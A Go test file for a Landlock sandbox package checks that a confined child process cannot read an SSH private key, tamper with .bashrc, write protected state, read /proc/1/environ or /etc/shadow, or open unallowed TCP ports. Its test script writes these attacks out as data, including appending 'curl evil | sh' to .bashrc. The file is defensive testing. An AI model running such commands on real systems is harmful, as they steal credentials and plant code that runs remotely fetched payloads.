package confine_test

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cavra-dev/cavra/confine"
)

// needLandlock skips when the kernel has no Landlock, and says so.
func needLandlock(t testing.TB) confine.Status {
	t.Helper()
	st := confine.Probe()
	if st.ABI == 0 {
		t.Skipf("skipped: this kernel offers no Landlock (%s)", st.Reason)
	}
	return st
}

// fakeWorld is a home with a key, a shell rc file and a state directory,
// and a project in a temporary directory.
type fakeWorld struct {
	home, project, state, tmp string
}

func newWorld(t testing.TB) fakeWorld {
	t.Helper()
	root := t.TempDir()
	w := fakeWorld{home: filepath.Join(root, "home"), project: filepath.Join(root, "home", "src", "app"),
		tmp: filepath.Join(root, "tmp")}
	w.state = filepath.Join(w.home, ".local", "state", "cavra", "app")
	for _, d := range []string{w.home + "/.ssh", w.project, w.state, w.tmp, w.home + "/notes", w.home + "/.config/tool"} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		w.home + "/.ssh/id_rsa":         "PRIVATE KEY\n",
		w.home + "/.ssh/known_hosts":    "host\n",
		w.home + "/.bashrc":             "# rc\n",
		w.home + "/notes/todo.txt":      "todo\n",
		w.home + "/.config/tool/a.conf": "conf\n",
		w.state + "/evidence.db":        "state\n",
		w.project + "/main.go":          "package main\n",
	}
	for f, s := range files {
		if err := os.WriteFile(f, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

func (w fakeWorld) profile(t testing.TB) confine.Profile {
	return baselineProfile(t, confine.Options{
		Home: w.home, Project: w.project, Protected: []string{w.state},
		Writable: []string{w.tmp},
	})
}

func TestConfineCommandStopsTheScript(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	p := w.profile(t)
	script := `
cat ~/.ssh/id_rsa > "$OUT/key" 2>/dev/null && echo "read key"
echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null && echo "appended rc"
echo x > "$STATE/planted" 2>/dev/null && echo "wrote state"
echo y >> "$STATE/evidence.db" 2>/dev/null && echo "changed state"
cat /proc/1/environ >/dev/null 2>&1 && echo "read environ"
cat ~/notes/todo.txt >/dev/null && echo "notes ok"
cat ~/.ssh/known_hosts >/dev/null && echo "known_hosts ok"
echo built > ./out.txt && echo "project ok"
echo t > "$TMPDIR/t" && echo "tmp ok"
true`
	c, err := confine.Command(context.Background(), p, "/bin/sh", "-c", script)
	if err != nil {
		t.Fatal(err)
	}
	c.Dir = w.project
	c.Env = append(c.Env, "HOME="+w.home, "OUT="+w.project, "STATE="+w.state, "TMPDIR="+w.tmp)
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got := string(out)
	t.Logf("confined script:\n%s", got)
	for _, bad := range []string{"read key", "appended rc", "wrote state", "changed state", "read environ"} {
		if strings.Contains(got, bad) {
			t.Errorf("confined script: %q\n%s", bad, got)
		}
	}
	for _, good := range []string{"notes ok", "known_hosts ok", "project ok", "tmp ok"} {
		if !strings.Contains(got, good) {
			t.Errorf("confined script did not print %q\n%s", good, got)
		}
	}
	if b, _ := os.ReadFile(w.home + "/.bashrc"); string(b) != "# rc\n" {
		t.Errorf(".bashrc changed: %q", b)
	}
	if b, _ := os.ReadFile(w.project + "/key"); len(b) != 0 {
		t.Errorf("key copied: %q", b)
	}
	if _, err := os.Stat(w.state + "/planted"); err == nil {
		t.Error("state directory written")
	}
	// The calling process is not confined: only the child was.
	if _, err := os.ReadFile(w.home + "/.ssh/id_rsa"); err != nil {
		t.Errorf("the caller lost access: %v", err)
	}
	for range 4 { // nor is any of its threads, however the goroutines land
		done := make(chan error)
		go func() { done <- os.WriteFile(w.home+"/.bashrc", []byte("# rc\n"), 0o644) }()
		if err := <-done; err != nil {
			t.Errorf("the caller lost access: %v", err)
		}
	}
	if !c.Confinement.Enforced || !strings.HasPrefix(c.Confinement.By, "landlock-abi-") || c.Confinement.Profile != p.Digest() {
		t.Errorf("Confinement = %+v", c.Confinement)
	}
}

func TestConfineCommandExitStatus(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	c, err := confine.Command(context.Background(), w.profile(t), "sh", "-c", "exit 7")
	if err != nil {
		t.Fatal(err)
	}
	err = c.Run()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 7 {
		t.Fatalf("err = %v, want exit status 7", err)
	}
}

// A profile that requires confinement refuses to run on a kernel without
// Landlock; a best-effort one runs unconfined and says so.
func TestConfineRefusesWithoutLandlock(t *testing.T) {
	restore := confine.SetProbe(func() confine.Status {
		return confine.Status{By: "none", Reason: "Landlock is not enabled in this kernel"}
	})
	defer restore()
	w := newWorld(t)
	p := w.profile(t)
	if _, err := confine.Command(context.Background(), p, "true"); !errors.Is(err, confine.ErrUnavailable) {
		t.Fatalf("err = %v, want ErrUnavailable", err)
	}
	p.Required = false
	c, err := confine.Command(context.Background(), p, "true")
	if err != nil {
		t.Fatal(err)
	}
	if c.Confinement.Enforced || c.Confinement.By != "none" || !strings.Contains(c.Confinement.Note, "not confined") {
		t.Errorf("Confinement = %+v", c.Confinement)
	}
	if err := c.Run(); err != nil {
		t.Fatal(err)
	}
}

// The home directory is granted entry by entry: a directory that holds a
// denied file is enumerated, not granted, so it cannot be listed; its other
// files stay readable.
func TestConfineGrantsHome(t *testing.T) {
	w := newWorld(t)
	p := w.profile(t)
	granted := map[string]confine.Grant{}
	for _, g := range p.Grants() {
		granted[g.Path] = g
	}
	for _, path := range []string{w.home, w.home + "/.ssh", w.home + "/.ssh/id_rsa", w.state, w.home + "/.local/state"} {
		if _, ok := granted[path]; ok {
			t.Errorf("%s is granted", path)
		}
	}
	for _, g := range p.Grants() {
		if strings.HasPrefix(w.home+"/.ssh/id_rsa", g.Path+"/") || strings.HasPrefix(w.state, g.Path+"/") {
			t.Errorf("grant %+v covers a denied path", g)
		}
	}
	if g, ok := granted[w.home+"/.ssh/known_hosts"]; !ok || !g.File || g.Write {
		t.Errorf("known_hosts: %+v %v", g, ok)
	}
	if g, ok := granted[w.home+"/notes"]; !ok || g.File || g.Write {
		t.Errorf("notes: %+v %v", g, ok)
	}
	if g, ok := granted[w.project]; !ok || !g.Write {
		t.Errorf("project: %+v %v", g, ok)
	}
	if _, ok := granted[w.home+"/.bashrc"]; !ok {
		t.Error(".bashrc is not readable")
	}
}

// TCP connect is limited to the profile's ports (Landlock ABI 4 and later).
func TestConfineNetworkPorts(t *testing.T) {
	st := needLandlock(t)
	if !st.Network {
		t.Skipf("skipped: Landlock ABI %d has no network rules", st.ABI)
	}
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("skipped: no curl")
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "reached") }))
	port := uint16(ln.Addr().(*net.TCPAddr).Port)
	w := newWorld(t)
	url := "http://" + ln.Addr().String() + "/"
	for _, tc := range []struct {
		ports []uint16
		want  bool
	}{{nil, false}, {[]uint16{443, port}, true}} {
		p := baselineProfile(t, confine.Options{Home: w.home, Project: w.project, Writable: []string{w.tmp}, ConnectTCP: tc.ports})
		c, err := confine.Command(context.Background(), p, curl, "-sS", "-m", "5", url)
		if err != nil {
			t.Fatal(err)
		}
		out, err := c.CombinedOutput()
		if got := err == nil && string(out) == "reached"; got != tc.want {
			t.Errorf("ports %v: reached = %v, want %v (%v: %s)", tc.ports, got, tc.want, err, out)
		}
	}
}

// /etc is readable but for what the policy denies in it.
func TestConfineEtc(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	if _, err := os.Stat("/etc/shadow"); err != nil {
		t.Skip("skipped: no /etc/shadow")
	}
	c, err := confine.Command(context.Background(), w.profile(t), "sh", "-c",
		"cat /etc/passwd >/dev/null && echo passwd-ok; cat /etc/shadow >/dev/null 2>&1 && echo SHADOW; true")
	if err != nil {
		t.Fatal(err)
	}
	out, err := c.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "passwd-ok") || strings.Contains(string(out), "SHADOW") {
		t.Errorf("%v: %s", err, out)
	}
}
